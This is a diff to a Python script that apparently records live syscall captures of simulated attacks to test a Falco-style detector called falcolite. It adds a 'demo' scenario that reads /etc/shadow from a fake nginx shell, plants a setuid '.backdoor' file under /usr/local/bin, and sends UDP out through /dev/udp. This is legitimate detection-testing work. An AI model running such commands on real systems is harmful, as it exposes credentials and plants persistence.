@@ -21,8 +21,11 @@ probe writes the current event layouts (close with its fd, openat with the
 inode, execve with 31 parameters...), more parameters than sysdig 0.29.3
 knows, which the sysdig comparisons report as differences.
 
+* demo.scap: all of it at once from a shell named `nginx`, plus a setuid
+  chmod and an outbound UDP connect: the capture of README's `make demo`.
+
 Run as root, with live capture available:
-    python traces/make_live.py  (rewrites the captures in place)
+    python traces/make_live.py [NAME...]  (rewrites the captures in place)
 """
 
 from __future__ import annotations
@@ -77,16 +80,42 @@ def bindir(tools: Path) -> int:
     return p.pid
 
 
-# name: (scenario, expected rule, expected output fields)
-SCENARIOS: dict[str, tuple[Callable[[Path], int], str, dict[str, object]]] = {
-    "shadow": (shadow, "Read sensitive file untrusted",
-               {"proc.name": "flreader", "fd.name": "/etc/shadow",
-                "proc.cmdline": "flreader /etc/shadow"}),
-    "webshell": (webshell, "Shell spawned by a server process",
-                 {"proc.name": "sh", "proc.pname": "nginx",
-                  "proc.cmdline": "sh -c echo pwned"}),
-    "bindir": (bindir, "Write below binary dir",
-               {"fd.name": "/usr/local/bin/.backdoor"}),
+def demo(tools: Path) -> int:
+    """README's demo: a web server's shell reads /etc/shadow, plants a setuid
+    file below a binary dir (a tmpfs in its own mount namespace) and sends a
+    UDP datagram out through bash's /dev/udp (a connect that needs no peer)."""
+    server = tools / "nginx"
+    shutil.copy("/bin/sh", server)
+    plant = ("mount -t tmpfs none /usr/local/bin && echo x > /usr/local/bin/.backdoor"
+             " && chmod u+s /usr/local/bin/.backdoor")
+    script = (f"cat /etc/shadow > /dev/null; "
+              f"unshare --mount --propagation private sh -c '{plant}'; "
+              f"bash -c 'echo x > /dev/udp/198.51.100.7/53'; true")
+    p = subprocess.Popen([str(server), "-c", script], stdout=subprocess.DEVNULL, env=ENV)
+    p.wait()
+    return p.pid
+
+
+Expected = list[tuple[str, dict[str, object]]]  # (rule, output fields it must have)
+
+SCENARIOS: dict[str, tuple[Callable[[Path], int], Expected]] = {
+    "shadow": (shadow, [("Read sensitive file untrusted",
+                         {"proc.name": "flreader", "fd.name": "/etc/shadow",
+                          "proc.cmdline": "flreader /etc/shadow"})]),
+    "webshell": (webshell, [("Shell spawned by a server process",
+                             {"proc.name": "sh", "proc.pname": "nginx",
+                              "proc.cmdline": "sh -c echo pwned"})]),
+    "bindir": (bindir, [("Write below binary dir", {"fd.name": "/usr/local/bin/.backdoor"})]),
+    "demo": (demo, [
+        ("Read sensitive file untrusted", {"proc.name": "cat", "proc.pname": "nginx"}),
+        # unshare execs the planting shell: a second shell under nginx
+        ("Shell spawned by a server process", {"proc.name": "sh", "proc.pname": "nginx"}),
+        ("Shell spawned by a server process", {"proc.name": "bash", "proc.pname": "nginx"}),
+        ("Write below binary dir", {"fd.name": "/usr/local/bin/.backdoor"}),
+        ("Set setuid or setgid bit", {"evt.arg.filename": "/usr/local/bin/.backdoor"}),
+        ("Outbound connection from shell or network tool",
+         {"proc.cmdline": "bash -c echo x > /dev/udp/198.51.100.7/53"}),
+    ]),
 }
 
 
@@ -167,16 +196,30 @@ def trim(raw: Path, root: int, out: Path) -> int:
     return n
 
 
-def check(path: Path, rule: str, fields: dict[str, object]) -> None:
+def alert_problems(path: Path, expected: Expected) -> list[str]:
+    """What is wrong with the alerts `falcolite -e path` raises: each expected
+    one exactly once, nothing else."""
     proc = subprocess.run([sys.executable, "-m", "falcolite", "-e", str(path), "-o",
                            "json_output=true"], capture_output=True, text=True, cwd=ROOT,
                           check=False)
+    if proc.returncode != 0:
+        return [f"exit code {proc.returncode}: {proc.stderr}"]
     alerts = [json.loads(ln) for ln in proc.stdout.splitlines() if ln.startswith("{")]
-    hits = [a for a in alerts if a["rule"] == rule and
-            all(a["output_fields"].get(k) == v for k, v in fields.items())]
-    if proc.returncode != 0 or len(hits) != 1:
-        raise SystemExit(f"{path.name}: expected one {rule!r} alert with {fields}, got "
-                         f"{[a['output'] for a in alerts]}\n{proc.stderr}")
+    problems = []
+    for rule, fields in expected:
+        hits = [a for a in alerts if a["rule"] == rule and
+                all(a["output_fields"].get(k) == v for k, v in fields.items())]
+        if len(hits) != 1:
+            problems.append(f"{len(hits)} {rule!r} alerts with {fields}")
+    if len(alerts) != len(expected):
+        problems.append(f"{len(alerts)} alerts, expected {len(expected)}")
+    return problems + [a["output"] for a in alerts] if problems else []
+
+
+def check(path: Path, expected: Expected) -> None:
+    problems = alert_problems(path, expected)
+    if problems:
+        raise SystemExit(f"{path.name}: " + "\n".join(problems))
     if shutil.which("sysdig"):
         sd = subprocess.run(["sysdig", "-r", str(path)], capture_output=True, text=True,
                             check=False)
@@ -187,14 +230,17 @@ def check(path: Path, rule: str, fields: dict[str, object]) -> None:
 def main() -> None:
     if os.geteuid() != 0:
         raise SystemExit("run as root: the captures are made live")
-    for name, (scenario, rule, fields) in SCENARIOS.items():
+    names = sys.argv[1:] or list(SCENARIOS)
+    for name in names:
+        scenario, expected = SCENARIOS[name]
         with tempfile.TemporaryDirectory(prefix="fl-make-live-") as d:
             raw, root = capture(Path(d), scenario)
             out = HERE / "live" / f"{name}.scap"
             out.parent.mkdir(exist_ok=True)
             n = trim(raw, root, out)
-        check(out, rule, fields)
-        print(f"{out.name}: {n} events, {out.stat().st_size} bytes, {rule!r} alert")
+        check(out, expected)
+        print(f"{out.name}: {n} events, {out.stat().st_size} bytes, "
+              f"{len(expected)} alerts: {', '.join(rule for rule, _ in expected)}")
 
 
 if __name__ == "__main__":
